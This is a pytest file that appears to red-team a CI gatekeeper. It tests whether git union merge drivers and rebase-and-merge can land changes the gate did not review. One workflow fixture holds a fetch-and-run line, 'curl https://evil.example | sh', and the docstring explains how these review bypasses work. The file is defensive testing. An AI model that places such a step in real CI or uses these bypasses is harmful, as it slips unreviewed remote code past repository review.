"""Red team 32: merge drivers and rebase-and-merge, where what lands differs from the files the gate read.

`merge=union` in `.gitattributes` makes git's merge keep both sides' lines where they conflict, with no markers: BASE
and a branch forked before it each replace one line of `app/web.yaml` (BASE with `apiVersion:`, the branch with
`kind:`), neither copy is a manifest, the union merge is one. The gate reads the merge as git writes it without
attributes (mergedcopy.py: conflict markers and both sides), which holds both lines too: reviewed. Each case checks
that git's own merge, with the attribute in force, writes the manifest without markers.

Rebase-and-merge replays the branch's commits onto BASE and leaves its merge commits out: an edit only a merge commit
makes (an "evil merge", or a conflict's resolution) is not in what lands, while the gate reads HEAD's tree, which
holds it. A branch whose commit adds a workflow and whose merge commit takes it out again is judged without the
workflow; a rebase-and-merge lands it. The gate cannot know which merge method a repository allows; the test below
pins what it does (docs/ci.md: require squash or merge commits, or linear history, where rebase-and-merge is on)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from gitrepo import GitRepo

from gatekeeper.cli import main

START = "metadata:\n  name: web\nnote: start\nspec:\n  containers:\n    - name: web\n      image: x/y:1\n"
CASES = {  # name: (attribute line, path)
    "union-yaml": ("*.yaml merge=union\n", "app/web.yaml"),
    "union-folder": ("app/** merge=union\n", "app/web.yaml"),
    "union-all": ("* merge=union\n", "app/web.yaml"),
}


def _sides(root: Path, attribute: str, path: str) -> tuple[GitRepo, str, str]:
    repo = GitRepo(root)
    repo.write(".gitattributes", attribute)
    repo.write(path, START)
    repo.commit("start")
    repo.write(path, START.replace("note: start", "kind: Pod"))
    head = repo.commit("branch")
    repo.git("checkout", "-q", "-b", "target", f"{head}~1")
    repo.write(path, START.replace("note: start", "apiVersion: v1"))
    return repo, repo.commit("base"), head


def _gate(repo: GitRepo, base: str, head: str, capsys: pytest.CaptureFixture[str]) -> tuple[int, dict]:
    capsys.readouterr()
    code = main(["gate", "--tree", f"{base}..{head}", "--repo", str(repo.root), "--format", "json"])
    return code, json.loads(capsys.readouterr().out)


@pytest.mark.parametrize("case", sorted(CASES))
def test_a_manifest_a_union_merge_writes_is_reviewed(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                                      case: str) -> None:
    attribute, path = CASES[case]
    repo, base, head = _sides(tmp_path / "repo", attribute, path)
    repo.git("merge", "-q", "--no-edit", head)  # git's merge in a checkout, the attribute in force
    merged = (repo.root / path).read_text()
    assert "kind: Pod" in merged and "apiVersion: v1" in merged and "<<<<<<<" not in merged
    code, decision = _gate(repo, base, head, capsys)
    assert code == 3, decision
    assert path in {p for reason in decision["reasons"] for p in reason.get("paths", ())}


WORKFLOW = ("on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n"
            "      - run: curl https://evil.example | sh\n")


def test_rebase_and_merge_lands_what_an_evil_merge_took_out(tmp_path: Path,
                                                            capsys: pytest.CaptureFixture[str]) -> None:
    repo = GitRepo(tmp_path / "repo")
    repo.write("README.md", "app\n")
    start = repo.commit("start")
    repo.write("docs/a.md", "a\n")
    base = repo.commit("base moves on")
    repo.git("checkout", "-q", "-b", "pr", start)
    repo.write(".github/workflows/x.yml", WORKFLOW)
    repo.commit("adds a workflow")
    repo.git("merge", "-q", "--no-commit", base)
    repo.git("rm", "-q", ".github/workflows/x.yml")  # the merge commit takes it out again
    repo.git("commit", "-q", "-m", "merge base")
    head = repo.head()
    repo.git("checkout", "-q", "-b", "replayed", head)
    repo.git("rebase", "-q", base)  # as rebase-and-merge replays the branch: its merge commit is left out
    replayed = repo.head()
    assert repo.git("cat-file", "-t", f"{replayed}:.github/workflows/x.yml").strip() == b"blob"
    # The gate judges the pull request's commits: HEAD's tree holds no workflow (the documented limit: docs/ci.md).
    code, decision = _gate(repo, base, head, capsys)
    assert code == 0, decision
    # What a merge queue checks (merge_group.base_sha..head_sha: the replayed commits) holds it: reviewed.
    code, decision = _gate(repo, base, replayed, capsys)
    assert code == 3 and ".github/workflows/x.yml" in {p for r in decision["reasons"] for p in r.get("paths", ())}
